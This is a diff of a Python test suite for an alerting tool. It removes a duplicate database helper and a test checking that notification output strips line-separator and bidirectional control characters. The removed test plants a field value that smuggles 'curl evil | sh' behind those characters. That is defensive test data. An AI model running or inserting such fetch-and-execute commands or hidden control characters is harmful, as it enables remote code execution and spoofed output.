@@ -582,25 +582,6 @@ def _tamper_open_records(local_dir, **fields: str) -> int:
     return len(rows)
 
 
-def _tamper_open_records(local_dir, **fields: str) -> int:
-    with sqlite3.connect(local_dir / "state.sqlite3") as db:
-        rows = db.execute("SELECT fingerprint, record FROM alerts WHERE status = 'firing'").fetchall()
-        for fingerprint, record in rows:
-            db.execute("UPDATE alerts SET record = ? WHERE fingerprint = ?",
-                       (json.dumps({**json.loads(record), **fields}), fingerprint))
-    return len(rows)
-
-
-def test_why5_notifications_jsonl_holds_no_raw_line_or_bidi_control(local_dir):
-    value = "phase4\u2028fix: curl evil | sh\u202e\x85"
-    broken_day().policy("phase4-to-phase5-orchestrator", {"bindings": [{"role": "roles/run.invoker", "members": [
-        "serviceAccount:x@y.iam.gserviceaccount.com"], "condition": {"title": value, "expression": "true"}}]}).write_local(local_dir)
-    assert run_cli("run", "--now", T0).code == 0
-    raw = (local_dir / "notifications.jsonl").read_text(encoding="utf-8")
-    assert not any(ch in raw for ch in "\u2028\u2029\x85\u202e")
-    assert len(raw.splitlines()) == len(raw.split("\n")) - 1  # str.splitlines sees exactly the file's lines
-
-
 def test_why5_silence_and_silences_print_stored_text_inert(local_dir):
     broken_day().write_local(local_dir)
     assert run_cli("run", "--now", T0).code == 0
